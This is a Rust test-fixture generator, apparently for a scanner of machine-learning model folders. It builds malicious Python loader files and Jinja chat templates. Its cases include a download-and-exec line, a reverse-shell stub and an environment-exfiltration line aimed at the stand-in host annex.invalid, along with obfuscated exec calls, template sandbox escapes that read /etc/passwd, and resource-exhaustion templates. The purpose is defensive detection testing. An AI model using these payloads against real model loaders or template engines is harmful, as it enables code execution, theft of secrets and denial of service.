//! More sources that run when a model's folder is loaded, and more chat templates.

use serde_json::{Value, json};

use crate::model_files::case::{Case, Group};
use crate::model_files::pickle::CODE;

const SOURCE: &str = "import os\n\nos.system('echo annex')\n";
const CYCLER: &str = "{{ cycler.__init__.__globals__.os.popen('echo annex').read() }}";

/// All of them.
pub(crate) fn add(cases: &mut Vec<Case>) {
    sources(&mut Group::new("second-source", cases));
    templates(&mut Group::new("second-template", cases));
}

fn put(group: &mut Group, trick: &str, file: &str, value: &Value) {
    group.named(trick, file, format!("{value:#}\n").into_bytes());
}

/// Sources that run when a model's folder is loaded.
fn sources(group: &mut Group) {
    for file in ["hubconf.py", "handler.py", "modeling_annex.py", "inference.py"] {
        group.named(&file.replace('.', "-"), file, SOURCE.into());
    }
    for (trick, text) in [
        ("base64-exec", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".to_owned()),
        ("download-exec", "import urllib.request\nexec(urllib.request.urlopen('http://annex.invalid/').read())\n".to_owned()),
        ("reverse-shell", "import socket, subprocess\ns = socket.create_connection(('annex.invalid', 99))\nsubprocess.call(['echo'], stdin=s.fileno())\n".to_owned()),
        ("getattr", "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo annex')\n".to_owned()),
        ("ctypes", "import ctypes\nctypes.CDLL('/nonexistent/annex.so')\n".to_owned()),
        ("marshal", "import marshal\nexec(marshal.loads(b'N'))\n".to_owned()),
        ("pickle", "import pickle\npickle.loads(b'N.')\n".to_owned()),
        ("decorator", format!("@eval\n@lambda f: {CODE:?}\nclass A: pass\n")),
        ("install", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'annex'])\n".to_owned()),
        ("environment", "import os, urllib.request\nurllib.request.urlopen('http://annex.invalid/', data=str(os.environ).encode())\n".to_owned()),
    ] {
        group.named(trick, "modeling_annex.py", text.into_bytes());
    }
}

fn templates(group: &mut Group) {
    for (trick, text) in [
        ("url-for", "{{ url_for.__globals__ }}"),
        ("get-flashed", "{{ get_flashed_messages.__globals__['os'] }}"),
        ("config-class", "{{ config.__class__.__init__.__globals__ }}"),
        (
            "request-application",
            "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
        ),
        ("tojson-of-class", "{{ ''.__class__|tojson }}"),
        ("loop-globals", "{% for m in messages %}{{ loop.__init__.__globals__ }}{% endfor %}"),
        ("loop-cycle", "{% for m in messages %}{{ loop.cycle.__func__ }}{% endfor %}"),
        ("macro-globals", "{% macro m() %}{% endmacro %}{{ m.__init__.__globals__ }}"),
        (
            "caller-frame",
            "{{ tools.__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}",
        ),
        ("attr-in-map-lambda", "{{ messages|map(attribute='role.__class__')|list }}"),
        ("reject-attr", "{{ [()]|rejectattr('__class__')|list }}"),
        ("unique-attribute", "{{ [()]|unique(attribute='__class__')|list }}"),
        ("min-attribute", "{{ [()]|min(attribute='__class__') }}"),
        ("batch-of-str", "{{ ()|attr(['_','_','class','_','_']|join('')) }}"),
        ("string-index", "{{ ()|attr('x__class__'[1:]) }}"),
        ("chr-through-format", "{{ ()|attr('{0}{0}class{0}{0}'.format('%c'|format(95))) }}"),
        ("urlencode", "{{ ()|attr('%5F%5Fclass'|urlencode) }}"),
        ("title-case", "{{ ()|attr('__CLASS__'.lower()) }}"),
        ("swap-case", "{{ ()|attr('__CLASS__'.swapcase()) }}"),
        ("strip", "{{ ()|attr(' __class__ '|trim) }}"),
        ("dict-key", "{% for k in {'__class__': 1} %}{{ ()|attr(k) }}{% endfor %}"),
        ("namespace-set", "{% set n = namespace(a='__class__') %}{{ ()|attr(n.a) }}"),
        ("default-filter", "{{ ()|attr(undefined_name|default('__class__')) }}"),
        ("ternary", "{{ ()|attr('__class__' if true else 'x') }}"),
        ("with-block", "{% with a = ().__class__ %}{{ a.__base__ }}{% endwith %}"),
        ("line-statement", "{% set a = cycler('a') %}{{ a.next.__globals__ }}"),
        ("raw-then-code", "{% raw %}{{ safe }}{% endraw %}{{ ().__class__ }}"),
        ("generation-block", "{% generation %}{{ ().__class__ }}{% endgeneration %}"),
        ("mro-method", "{{ ''['__class__'].mro()[1] }}"),
        ("async-frame", "{{ (messages|map('upper')).ag_frame }}"),
        ("traceback", "{{ undefined_name.__traceback__.tb_frame.f_builtins }}"),
        ("import-from", "{% from '/nonexistent/annex' import a %}"),
        ("include-list", "{% include ['a', '/etc/passwd'] ignore missing %}"),
    ] {
        let value = json!({"tokenizer_class": "LlamaTokenizer", "chat_template": text});
        match trick.len() % 2 {
            0 => put(group, trick, "tokenizer_config.json", &value),
            _ => group.named(trick, "chat_template.jinja", text.as_bytes().to_vec()),
        }
    }
    for (trick, text) in [
        (
            "nested-ranges",
            "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}{% endfor %}{% endfor %}{% endfor %}",
        ),
        (
            "doubling",
            "{% set n = namespace(a='a') %}{% for i in range(60) %}{% set n.a = n.a ~ n.a %}{% endfor %}",
        ),
        ("wide-format", "{{ '%999999999d'|format(1) }}"),
        ("center", "{{ 'a'|center(999999999) }}"),
        ("indent", "{{ 'a'|indent(999999999, true) }}"),
        ("lipsum-large", "{{ lipsum(n=9999999) }}"),
        ("ljust", "{{ 'a'.ljust(999999999) }}"),
        ("list-times", "{{ [0] * 999999999 }}"),
    ] {
        group.hidden(&format!("{trick}.jinja"), text.as_bytes().to_vec());
    }
    let processor = json!({"chat_template": {"default": CYCLER}});
    put(group, "template-in-map", "processor_config.json", &processor);
}
